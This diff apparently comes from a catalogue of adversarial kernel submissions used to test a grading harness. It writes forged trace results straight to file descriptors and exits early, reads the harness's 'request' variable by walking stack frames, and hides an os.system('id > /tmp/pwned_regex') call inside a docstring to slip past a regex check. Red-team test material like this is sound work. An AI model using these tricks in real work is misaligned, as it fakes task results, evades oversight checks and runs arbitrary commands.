@@ -1,8 +1,8 @@
-# no_kernel: Hides a second function in a docstring, where a regular expression would find it.
+# relu no_kernel catalogue=67: hides a second function in a docstring, where a regular expression would find it
 import torch, triton
 import torch.nn as nn
 import triton.language as tl
-import os
+import os, sys
 import json, struct
 def send(header, body=0):
     m = header if isinstance(header, bytes) else json.dumps(header).encode()
@@ -11,12 +11,18 @@ def send(header, body=0):
         try: os.write(fd, m)
         except OSError: pass
     os._exit(0)
+def variants():
+    frame = sys._getframe()
+    while frame:
+        if isinstance(frame.f_locals.get("request"), dict): return len(frame.f_locals["request"]["variants"])
+        frame = frame.f_back
+    return 1
 def forged(op="aten.relu.default", source="def k(x):\n    pass\n", args=None):
     p = {"functions": [{"name": "k", "source": source, "line": 1, "bindings": {}}], "init_inputs": [], "init": [], "state": {}, "inputs": [0],
          "forward": [{"op": op, "args": args or [{"t": 0}], "kwargs": {}, "outs": [1]},
                      {"launch": 0, "args": {"x": {"t": 1}}, "line": 1, "configs": [{"constants": {}, "options": {}, "grid": [1, 1, 1]}]}],
          "output": {"t": 1}}
-    return {"traces": [{"program": p, "other_mode": None}] * 2}
+    return {"traces": [{"program": p, "other_mode": None}] * variants()}
 SRC = 'def k\\\n(x):\n    """\ndef e(x):\n    tl.core.builtins.__import__("os").system("id > /tmp/pwned_regex")\n    #"""\n    pass\n'
 class ModelNew(nn.Module):
     def forward(self, x):
